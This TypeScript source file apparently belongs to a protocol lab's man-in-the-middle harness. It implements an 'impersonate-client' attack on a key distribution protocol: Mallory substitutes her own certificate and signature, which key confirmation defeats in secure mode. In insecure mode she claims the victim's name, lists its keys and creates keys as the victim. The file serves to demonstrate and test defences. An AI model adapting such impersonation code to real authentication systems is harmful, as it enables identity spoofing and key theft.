// impersonate-client: Mallory holds a valid certificate of her own (an enrolled insider, `--identity`)
// and tries to be taken for the victim.
// - Secure: she lets the victim's hellos through, then replaces the victim's certificate and
//   signature in its client_finish with hers, signed correctly over the very same transcript. The KDC
//   accepts the certificate and the signature, but the Finished MAC is keyed by the victim's DH secret,
//   which Mallory does not have: bad_mac. Had she swapped the DH share too, the client would have
//   refused the KDC's signature. Either way she ends up, at best, with a session as HERSELF.
// - Insecure: names are only claimed. Mallory reads the victim's name in its (plaintext) client_finish,
//   opens her own insecure session claiming that name, lists the victim's keys and creates a key
//   "from" the victim to one of its peers: the KDC cannot tell.
import { signPss } from '../../../shared/crypto/rsa.js';
import { encodeValue } from '../../../shared/protocol/codec.js';
import { ClientFinishCoreSchema, decodeFrame } from '../../../shared/protocol/messages.js';
import { canonicalize } from '../../../shared/protocol/schema.js';
import { appendEntries, signatureInput, transcriptHash } from '../../../shared/protocol/transcript.js';
import { defenceForCode, WIRE } from '../../../shared/defences.js';
import { toKdsError } from '../../../shared/errors.js';
import type { AttackModule } from '../attack.js';
import type { MitmContext } from '../context.js';
import { viewFrame } from '../frames.js';
import type { Link } from '../link.js';

export const impersonateClient: AttackModule = {
  name: 'impersonate-client',
  summary: "be taken for the victim with a valid certificate of another name (Mallory's own)",
  position:
    'on the path between a client and the KDC, holding a valid client certificate of her own (--identity)',
  action:
    "Forwards the hellos, then replaces the victim's certificate and signature in its client_finish with her own certificate and a valid signature over the same transcript, keeping the victim's MAC. Against an insecure victim she opens her own session claiming the victim's name and acts as it.",
  secure: {
    outcome: 'failed',
    defence: 'key confirmation',
    why: "the Finished MAC is keyed by the victim's DH secret: a valid certificate and signature are not enough",
  },
  insecure: {
    outcome: 'succeeded',
    why: 'the KDC believes the claimed name: Mallory lists and creates keys as the victim',
  },
  needsIdentity: true,
  connection(link) {
    const ctx = link.ctx;
    let acted = false;
    let forgedAs: string | undefined;
    return {
      fromServer(frame) {
        // After the forged client_finish the KDC answers with an alert (bad_mac) or, having accepted
        // the handshake, with its first record: the session is established under Mallory's certificate.
        if (forgedAs !== undefined && !link.decided && viewFrame(frame).kind === 'record') {
          link.succeed(
            `the KDC established ${link.victimName ?? 'the victim'}'s connection as ${forgedAs}: it accepted a Finished MAC computed over another transcript`,
          );
        }
        link.toClient(frame);
      },
      async fromClient(frame) {
        const v = viewFrame(frame);
        if (v.frame?.t === 'client_finish' && !acted) {
          acted = true;
          if (link.mode === 'insecure') {
            link.toServer(frame);
            const victim = v.frame.name;
            if (victim !== undefined) ctx.task(() => actAs(ctx, link, victim));
            return;
          }
          const id = ctx.settings.identity;
          if (
            link.mode === 'auth' &&
            id !== undefined &&
            link.clientHello !== undefined &&
            link.serverHello !== undefined
          ) {
            const core = encodeValue(
              canonicalize(
                ClientFinishCoreSchema,
                { t: 'client_finish', cert: id.cert.der },
                'client_finish',
              ),
            );
            const th = transcriptHash(link.clientHello, link.serverHello, core);
            const sig = await signPss(signatureInput('client', th), id.privateKey);
            const mac = (decodeFrame(frame) as { mac: Uint8Array }).mac;
            const forged = appendEntries(appendEntries(core, [['sig', sig]]), [['mac', mac]]);
            forgedAs = id.name;
            link.toServer(
              forged,
              'modify',
              `certificate and signature replaced by ${id.name}'s (valid, over this transcript); the victim's MAC kept`,
            );
            link.expect({
              defence: 'key confirmation',
              toward: 'server',
              codes: ['bad_mac'],
              what: `presented ${id.name}'s certificate in ${link.victimName ?? 'the victim'}'s handshake`,
            });
            return;
          }
          if (id === undefined) link.inconclusive('no identity of her own to present (--identity)');
        }
        link.toServer(frame);
      },
    };
  },
};

/** Insecure mode: Mallory's own session under the victim's name. */
async function actAs(ctx: MitmContext, link: Link, victim: string): Promise<void> {
  ctx.record({
    conn: 0,
    dir: 'side',
    type: 'session',
    size: 0,
    action: 'session',
    note: `Mallory opens her own insecure session claiming "${victim}"`,
  });
  let session;
  try {
    session = await ctx.openOwnSession('insecure', victim);
  } catch (err) {
    const e = toKdsError(err);
    ctx.record({ conn: 0, dir: 'side', type: 'session', size: 0, action: 'refused', note: e.code });
    const d = defenceForCode(e.code, WIRE);
    if (d !== undefined) ctx.fail(0, d.defence, `the KDC refused a session claiming ${victim}`, e.code);
    else ctx.inconclusive(0, `her session as ${victim} failed: ${e.code}`);
    return;
  }
  ctx.terminatedInsecure = true; // her own session: she holds its keys
  try {
    ctx.record({
      conn: 0,
      dir: 'side',
      type: 'session',
      size: 0,
      action: 'accepted',
      note: `the KDC accepted Mallory as ${victim}`,
    });
    const list = await session.request('key.list', {});
    const keys = list.keys;
    const peers = keys.map((k) => (k.owner === victim ? k.peer : k.owner)).filter((p) => p !== victim);
    const peer = ctx.settings.peer ?? peers[0];
    let detail = `the KDC accepted Mallory as ${victim} and listed ${keys.length} of ${victim}'s keys`;
    if (peer !== undefined && peer !== victim) {
      try {
        const c = await session.request('key.create', { peer });
        ctx.loot.addKey({
          serial: c.serial,
          key: Buffer.from(c.key),
          from: victim,
          to: peer,
          source: `key.create as ${victim}`,
          conn: link.id,
        });
        detail += `; created key ${c.serial} that ${peer} will believe comes from ${victim}`;
      } catch (err) {
        detail += `; key.create to ${peer} failed (${toKdsError(err).code})`;
      }
    }
    ctx.succeed(0, detail);
  } catch (err) {
    const e = toKdsError(err);
    const d = defenceForCode(e.code, WIRE);
    if (d !== undefined) ctx.fail(0, d.defence, `acting as ${victim} was refused`, e.code);
    else ctx.inconclusive(0, `acting as ${victim} failed: ${e.code}`);
  } finally {
    await session.close().catch(() => undefined);
  }
}
